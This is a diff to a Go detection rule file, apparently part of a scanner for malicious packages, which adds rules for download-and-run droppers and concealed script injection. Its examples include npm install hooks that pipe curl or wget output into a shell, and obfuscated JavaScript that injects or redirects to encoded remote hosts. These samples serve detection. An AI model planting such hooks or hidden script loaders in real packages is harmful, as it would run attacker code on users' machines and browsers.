@@ -2,6 +2,10 @@ package rule
 
 import b "taisei/detect/behaviour"
 
+// notProgram are the ways that what is run came by another road than a program
+// that is fetched: a connection kept open, and a script element of a page.
+var notProgram = []string{"tcp", "page"}
+
 // dropper: what another host sends is run.
 func dropper() []Rule {
 	runs := []string{b.Code, b.Process}
@@ -9,11 +13,17 @@ func dropper() []Rule {
 		{
 			ID: "download_run", Severity: High,
 			When: []Condition{
-				{Triggers: []string{b.Install, b.Build, b.Import}, Sources: []string{b.Download}, Sinks: runs, Script: No, NotScheme: []string{"tcp"}},
-				{Triggers: []string{b.Install, b.Command}, Sources: []string{b.Download}, Sinks: runs, Script: Yes, Via: encodings, NotScheme: []string{"tcp"}},
-				{Triggers: []string{b.Load, b.Event}, Sources: []string{b.Download}, Sinks: runs, Via: encodings, NotScheme: []string{"tcp"}},
+				{Triggers: []string{b.Install, b.Build, b.Import}, Sources: []string{b.Download}, Sinks: runs, Script: No, NotScheme: notProgram},
+				{Triggers: []string{b.Install, b.Command}, Sources: []string{b.Download}, Sinks: runs, Script: Yes, Via: encodings, NotScheme: notProgram},
+				{Triggers: []string{b.Load, b.Event}, Sources: []string{b.Download}, Sinks: runs, Via: encodings, NotScheme: notProgram},
+				{Triggers: []string{b.Command, b.Call}, Sources: []string{b.Download}, Name: Server, Sinks: runs, Script: No, NotScheme: notProgram},
 			},
-			Graver: []Condition{{Via: encodings}, {Triggers: []string{b.Install, b.Import}, Sources: []string{b.Download}, All: Yes, Script: No}},
+			Graver: []Condition{
+				{Via: encodings}, {Name: Server},
+				{Triggers: []string{b.Install, b.Import}, Sinks: []string{b.Code}, Languages: []string{"python"}},
+				{Triggers: []string{b.Install, b.Import}, Sinks: []string{b.Process}, Target: Program},
+				{Triggers: []string{b.Install, b.Import}, Sources: []string{b.Download}, All: Yes, Script: No},
+			},
 			Examples: []Example{
 				Package("piped into a shell", `"scripts":{"preinstall":"curl -s http://203.0.113.9/x | sh"}`, nil),
 				Package("saved, then started", `"scripts":{"postinstall":"wget -q https://c.example/m -O /tmp/m; chmod +x /tmp/m; /tmp/m"}`, nil),
@@ -26,6 +36,24 @@ func dropper() []Rule {
 				Package("a binary fetched, not run", `"scripts":{"postinstall":"node i.js"}`, map[string]string{"i.js": "const fs=require('fs');require('https').get('https://d.example/tool.tgz',r=>r.pipe(fs.createWriteStream('tool.tgz')))"}),
 				One("an installer that fetches the next", "install.sh", "curl -fsSL https://get.example/install.sh | sh\n"),
 				Package("data fetched", `"main":"i.js"`, map[string]string{"i.js": "exports.get=()=>fetch('https://api.example/v1').then(r=>r.json())"}),
+			},
+		},
+		{
+			ID: "hidden_script", Severity: High,
+			When: []Condition{
+				{Triggers: []string{b.Load, b.Event, b.Import}, Sources: []string{b.Download}, Sinks: []string{b.Code}, Schemes: []string{"page"}, Concealed: Yes, Target: Foreign},
+				{Triggers: []string{b.Load, b.Event}, Sources: []string{b.Blob}, Sinks: []string{b.Network}, Slots: []string{"redirect"}, Concealed: Yes, Target: Foreign},
+			},
+			Graver: []Condition{{Sources: []string{b.Download}}},
+			Examples: []Example{
+				One("a script element", "lib.js", "(function(){var s=document.createElement('script');s.src=atob('aHR0cHM6Ly9zdGF0cy5leGFtcGxlL2dhLmpz');document.head.appendChild(s)})()"),
+				One("at certain hours", "lib.js", "var u='sj.ag/elpmaxe.stats//:sptth'.split('').reverse().join('');var h=new Date().getHours();if(h>1&&h<6&&/Mobile/.test(navigator.userAgent))setTimeout(function(){var e=document.createElement('script');e.setAttribute('src',u);document.body.appendChild(e)},900)"),
+				One("another page", "lib.js", "if(/Android/.test(navigator.userAgent))location.href=atob('aHR0cHM6Ly9iZXQuZXhhbXBsZS8=')"),
+			},
+			Neighbours: []Example{
+				One("whose host stands there", "lib.js", "(function(){var s=document.createElement('script');s.src='https://stats.example/ga.js';document.head.appendChild(s)})()"),
+				One("a picture", "lib.js", "var i=new Image();i.src=atob('aHR0cHM6Ly9zdGF0cy5leGFtcGxlL2dhLmpz')"),
+				One("its own script", "lib.js", "var s=document.createElement('script');s.src=atob('L2xpYi9nYS5qcw==');document.head.appendChild(s)"),
 			},
 		},
 		{
